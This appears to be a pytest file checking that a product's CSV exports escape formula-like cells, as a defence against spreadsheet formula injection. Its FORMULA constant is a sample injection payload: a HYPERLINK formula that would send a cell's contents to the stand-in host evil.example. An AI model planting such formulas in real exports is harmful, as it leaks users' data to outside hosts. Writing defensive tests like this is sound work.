"""Every CSV the product writes escapes cells a spreadsheet would read as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from abm.exports import csv_text, safe_cell

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'


@pytest.mark.parametrize("value, shown", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), (-3.5, -3.5), (7, 7), (None, None), ("", ""),
])
def test_owasp_rule(value, shown):
    assert safe_cell(value) == shown


def test_the_kpi_export_escapes_a_costs_product(api):
    manager = api("manager")
    answer = manager.post("/api/v1/costs", json={"product": FORMULA, "channel": "ads", "amount": "120.00",
                                                 "currency": "usd", "date": "2026-06-02"})
    assert answer.status_code == 201, answer.get_json()
    exported = manager.get("/api/v1/kpis?group_by=product&from=2026-06-01&to=2026-06-30&format=csv")
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    cells = [cell for row in rows for cell in row.values()]
    assert "'" + FORMULA in cells
    assert not any(isinstance(cell, str) and cell.startswith(("=", "+", "@")) for cell in cells)


def test_header_and_cells_alike():
    text = csv_text([{"=name": "-1", "n": -1}])
    assert list(csv.reader(io.StringIO(text))) == [["'=name", "n"], ["'-1", "-1"]]
